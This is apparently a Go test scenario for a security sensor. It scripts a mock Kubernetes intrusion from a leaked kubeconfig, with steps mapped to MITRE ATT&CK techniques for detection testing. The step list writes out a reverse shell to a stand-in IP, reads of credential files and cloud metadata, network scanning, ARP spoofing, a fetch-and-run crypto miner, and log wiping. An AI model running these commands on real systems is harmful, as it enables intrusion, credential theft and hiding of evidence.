package play

import (
	"fmt"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// Cloud is a pipeline's leaked kubeconfig, with which an intruder works inside of a pod that runs already: makes nothing,
// changes nothing, and looks for ways to the node, the network and the cloud. What the commands do inside is for sensors;
// here they only say what they are. No packet of theirs exists.
func Cloud(s *stage.Stage) {
	c := Found(s)
	thief := c.CI.At(s.Outside("mallory", "198.51.100.77"))
	api := s.Pod("payments", "app=api")

	s.Attack("T1078", "Initial Access: Kubeconfig file", "uses the pipeline's kubeconfig from an unknown place").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("auth", "can-i", "--list", "-n", "payments")
		a.Kubectl("-n", "payments", "get", "deploy,pods")
	})
	s.Attack("T1046", "Discovery: Network mapping", "lists services, their endpoints and network policies").
		As(thief).Do(func(a *stage.Act) {
		for _, ns := range []string{"payments", "shop", "data"} {
			a.Kubectl("-n", ns, "get", "services,endpointslices,ingresses,networkpolicies", "-o", "wide")
		}
	})
	s.Attack("T1090", "Lateral Movement: Cluster internal networking", "calls payments/ledger through the API server").
		As(thief).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/payments/services/ledger:80/proxy/admin", "")
	})
	for _, step := range []struct {
		technique, matrix, what string
		command                 []string
	}{
		{"T1059.004", "Execution: Bash or cmd inside container", "has a shell of %s call home", []string{"sh", "-c", "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"}},
		{"T1552.001", "Credential Access: Application credentials in configuration files", "looks for credentials in the files of %s", []string{"sh", "-c", "env; cat /app/config/.env; cat /root/.aws/credentials"}},
		{"T1552.005", "Discovery: Instance metadata API", "asks the cloud's metadata service from %s", []string{"curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}},
		{"T1552.005", "Credential Access: Access managed identity credential", "asks for the node's managed identity from %s", []string{"curl", "-s", "-H", "Metadata:true", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"}},
		{"T1078.004", "Privilege Escalation: Access cloud resources", "uses the pod's cloud role in %s", []string{"aws", "sts", "get-caller-identity"}},
		{"T1530", "Lateral Movement: Access cloud resources", "copies a bucket from %s", []string{"aws", "s3", "sync", "s3://example-ledger-exports", "/tmp/x"}},
		{"T1046", "Discovery: Network mapping", "scans the network of the pods from %s", []string{"nmap", "-sT", "-p", "22,80,443,2379,6443,10250", "10.244.0.0/24"}},
		{"T1613", "Discovery: Access Kubelet API", "asks the kubelet directly from %s", []string{"curl", "-sk", "https://10.0.0.10:10250/pods"}},
		{"T1557.002", "Lateral Movement: ARP poisoning and IP spoofing", "poisons its neighbours' address tables from %s", []string{"arpspoof", "-i", "eth0", "-t", "10.244.0.5", "10.244.0.1"}},
		{"T1496", "Impact: Resource hijacking", "starts a miner in %s", []string{"sh", "-c", "wget -q http://198.51.100.77/xmrig -O /tmp/.x; chmod +x /tmp/.x; xmrig -o stratum+tcp://pool.example.net:3333"}},
		{"T1070", "Defense Evasion: Clear container logs", "clears logs and history in %s", []string{"sh", "-c", "rm -rf /var/log/app; unset HISTFILE; rm -f /root/.bash_history"}},
	} {
		s.Attack(step.technique, step.matrix, fmt.Sprintf(step.what, api)).
			As(thief).On(api).Do(func(a *stage.Act) {
			a.Kubectl(append([]string{"-n", "payments", "exec", api.Name, "--"}, step.command...)...)
		})
	}
}
